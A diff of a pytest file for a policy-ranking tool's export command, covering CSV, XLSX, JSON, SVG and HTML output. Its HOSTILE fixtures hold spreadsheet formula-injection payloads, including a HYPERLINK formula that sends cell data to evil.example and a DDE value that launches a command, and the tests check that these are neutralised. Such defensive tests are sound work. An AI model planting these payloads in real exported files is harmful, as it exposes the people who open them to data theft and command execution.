@@ -7,6 +7,7 @@ registers it, so these tests do not depend on the rest of the command line.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -26,6 +27,7 @@ from policybench.cli.export import PASSPHRASE_ENV, Format, export
 HOSTILE = {
     "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
     "minus_title": "-2+3",
+    "at_title": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
 
 app = typer.Typer(add_completion=False, pretty_exceptions_enable=False)
@@ -71,15 +73,20 @@ def test_csv_holds_the_comparison_table(tiny_options: Path, tmp_path: Path) -> N
         "topsis",
     )
     assert result.exit_code == 0, result.output
-    table = pd.read_csv(out)
-    assert len(table) == 4 and table["wsm:rank"].iloc[0] == 1
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 that Excel reads
+    table = pd.read_csv(out, encoding="utf-8-sig")
+    assert len(table) == 4 and table["Weighted sum: rank"].iloc[0] == 1
     assert {
-        "score:deterrence",
-        "wsm:contribution:deterrence",
-        "wsm:total",
-        "topsis:total",
-        "topsis:rank",
+        "Deterrence: score",
+        "Weighted sum: Deterrence adds",
+        "Weighted sum: score",
+        "TOPSIS: score",
+        "TOPSIS: rank",
     } <= set(table.columns)
+    # the table alone in the file; its stamp beside it, and said where
+    stamp = (tmp_path / "c.stamp.txt").read_text(encoding="utf-8")
+    assert "weights from: Deterrence first (preset)" in stamp
+    assert f"and its stamp {tmp_path / 'c.stamp.txt'}" in result.stderr
 
 
 def test_json_to_stdout_with_several_methods(tiny_options: Path) -> None:
@@ -242,6 +249,7 @@ def hostile_options(copy_catalog: Any) -> Path:
     for name, old, new in (
         ("liaison", "Liaison officers", HOSTILE["formula_title"]),
         ("summits", "Regular summits", HOSTILE["minus_title"]),
+        ("two-plus-two", "A 2+2 meeting", HOSTILE["at_title"]),
     ):
         path = root / "policies" / f"{name}.yaml"
         path.write_text(path.read_text().replace(f"title: {old}", f"title: {json.dumps(new)}"))
@@ -259,6 +267,24 @@ def test_hostile_catalog_text_is_neutralised_in_csv(hostile_options: Path, tmp_p
         "\n" + HOSTILE["formula_title"][:3] not in text
         and "," + HOSTILE["minus_title"] + "," not in text
     )
+    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
+    for bad in HOSTILE.values():
+        assert "'" + bad in cells and bad not in cells, bad
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}]
+
+
+def test_hostile_catalog_text_is_neutralised_in_xlsx(hostile_options: Path, tmp_path: Path) -> None:
+    out = tmp_path / "h.xlsx"
+    assert (
+        run("--format", "xlsx", "--out", str(out), "--options", str(hostile_options)).exit_code == 0
+    )
+    wb = openpyxl.load_workbook(out)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    for bad in HOSTILE.values():
+        found = [c for c in cells if c.value == bad]
+        assert found, bad  # the title kept whole, on every sheet that lists the options ...
+        assert all(c.data_type == "s" and c.quotePrefix for c in found), bad  # ... and inert
+    assert not [c for c in cells if c.value[:1] in {"=", "+", "-", "@"} and not c.quotePrefix]
 
 
 # ------------------------------------------------------------------------------ workshops
@@ -373,7 +399,7 @@ def test_workshop_export_names_participants_when_asked(
     participants = wb["Participants"]
     assert [participants.cell(r, 1).value for r in (2, 3)] == ["=ana", "bob"]
     assert participants.cell(2, 1).quotePrefix and participants.cell(2, 1).data_type == "s"
-    assert wb["Group ranking"]["C1"].value == "copeland rank"
+    assert wb["Group ranking"]["C1"].value == "Copeland rank"
 
 
 def test_workshop_passphrase_can_be_typed(workshop: dict[str, str], tiny_options: Path) -> None:
@@ -472,15 +498,88 @@ def test_workshop_html_report_keeps_names_inert(
     )
     assert result.exit_code == 0, result.output
     assert "Seminar &lt;b&gt;" in result.stdout and "<b>" not in result.stdout
-    assert result.stdout.count("<svg") == 3  # ranking, weights spread, ranks against the group
+    # ranking (at the page's width and a phone's), weights spread, ranks against the group
+    assert result.stdout.count("<svg") == 4
     assert "http://" not in result.stdout and "https://" not in result.stdout
 
 
 def test_binary_to_stdout_is_raw_bytes(tiny_options: Path) -> None:
     result = run("--format", "xlsx", "--out", "-", "--options", str(tiny_options))
     assert result.exit_code == 0
-    assert openpyxl.load_workbook(io.BytesIO(result.stdout_bytes)).sheetnames[0] == "Ranking"
+    assert openpyxl.load_workbook(io.BytesIO(result.stdout_bytes)).sheetnames[:2] == [
+        "Summary",
+        "Ranking",
+    ]
 
 
 def test_the_command_offers_exactly_the_exporters_formats() -> None:
     assert get_args(Format) == exporters.FORMATS
+
+
+def test_the_options_in_play_are_ranks_and_the_stamp_says_so(tiny_options: Path) -> None:
+    args = ("--format", "json", "--out", "-", "--options", str(tiny_options))
+    default = json.loads(run(*args).stdout)["metadata"]
+    assert (default["all"], default["screen"], default["screened_out"]) == (False, [], [])
+    result = run(*args, "--all", "--require", "backlash<=5", "--preset", "hawk")
+    assert result.exit_code == 0, result.output
+    data = json.loads(result.stdout)
+    m = data["metadata"]
+    assert m["all"] is True and m["screen"] == ["backlash<=5"]
+    assert m["screened_out"] == [
+        {"option": "liaison", "title": "Liaison officers", "failed": ["backlash 6 > 5"]}
+    ]
+    assert [r["option"] for r in data["comparison"]] == ["two-plus-two", "summits", "status-quo"]
+    assert m["profile"] == "Deterrence first (preset)"
+    assert "every option, screen backlash<=5 (1 set aside)" in result.stderr
+    empty = run(*args, "--require", "deterrence>=9")
+    assert empty.exit_code == 1 and "leaves no option to rank" in empty.stderr
+
+
+def test_a_folder_gets_a_file_named_after_the_stamp(tiny_options: Path, tmp_path: Path) -> None:
+    result = run(
+        "--format",
+        "csv",
+        "--out",
+        str(tmp_path),
+        "--options",
+        str(tiny_options),
+        "--preset",
+        "hawk",
+    )
+    assert result.exit_code == 0, result.output
+    names = sorted(p.name for p in tmp_path.iterdir())
+    fp = catalog.load(tiny_options).short_fingerprint
+    assert len(names) == 2 and names[0].startswith(
+        f"policybench-hawk-wsm-default-set-unscreened-{fp}-"
+    )
+    assert names[0].endswith("Z.csv") and names[1] == names[0].replace(".csv", ".stamp.txt")
+
+
+def test_top_sets_how_many_options_the_chart_shows(tiny_options: Path, tmp_path: Path) -> None:
+    def options_in_svg(*extra: str) -> int:
+        out = tmp_path / "c.svg"
+        result = run("--format", "svg", "--out", str(out), "--options", str(tiny_options), *extra)
+        assert result.exit_code == 0, result.output
+        return out.read_text().count('aria-label="label: ')
+
+    assert options_in_svg("--top", "2") == 2
+    assert options_in_svg("--top", "0") == 4  # 0: all
+    assert options_in_svg() == 4  # the default, 10, is more than the tiny catalog has
+
+
+def test_a_workshop_takes_no_option_set(workshop: dict[str, str], tiny_options: Path) -> None:
+    result = run(
+        "--format",
+        "json",
+        "--out",
+        "-",
+        "--options",
+        str(tiny_options),
+        "--workshop",
+        workshop["code"],
+        "--db",
+        workshop["db"],
+        "--all",
+        env={PASSPHRASE_ENV: PASS},
+    )
+    assert result.exit_code == 2 and "ranks the options it was run on" in result.output
